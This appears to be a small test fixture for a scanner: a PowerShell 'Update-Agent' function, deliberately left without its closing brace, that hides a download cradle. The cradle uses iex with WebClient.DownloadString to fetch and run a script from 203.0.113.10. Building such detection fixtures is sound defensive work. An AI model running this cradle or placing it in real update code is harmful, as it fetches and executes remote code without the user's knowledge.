<#
.SYNOPSIS
    Updater with a missing closing brace; the cradle inside must still be found.
#>
function Update-Agent {
    param([string]$Channel = 'stable')
    if ($Channel -eq 'stable') {
        Write-Verbose -Message 'Checking for updates'

iex (New-Object Net.WebClient).DownloadString('http://203.0.113.10/agent.ps1')
Get-Service -Name 'AgentSvc'
